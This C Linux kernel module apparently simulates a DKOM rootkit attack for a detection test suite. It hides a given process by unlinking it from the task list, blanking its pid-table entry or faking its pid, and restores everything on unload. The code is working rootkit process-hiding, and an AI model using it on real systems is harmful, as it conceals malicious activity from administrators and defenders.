// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: a process is taken out of the list of tasks (how=list), out of the table of pids (how=pid), or says
 * that it is another (how=false).
 * Who: DKOM kits; Adore-ng and its kind.
 * Changes: links of the process `pid`. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

VARIANT("list");
static int pid;
module_param(pid, int, 0);

static struct task_struct *task;
static struct pid *identity;
static struct hlist_node *saved;

static int __init start(void)
{
	identity = find_get_pid(pid);
	task = identity ? get_pid_task(identity, PIDTYPE_PID) : NULL;
	if (!task)
		return -ESRCH;
	if (HOW("false")) {
		task->pid = task->tgid = 31337;
	} else if (HOW("list")) {
		list_del_rcu(&task->tasks);
	} else {
		saved = identity->tasks[PIDTYPE_PID].first;
		WRITE_ONCE(identity->tasks[PIDTYPE_PID].first, NULL);
	}
	return 0;
}

static void __exit stop(void)
{
	if (HOW("false"))
		task->pid = task->tgid = pid;
	else if (HOW("list"))
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
	else
		WRITE_ONCE(identity->tasks[PIDTYPE_PID].first, saved);
	put_task_struct(task);
	put_pid(identity);
}

ATTACK(start, stop);
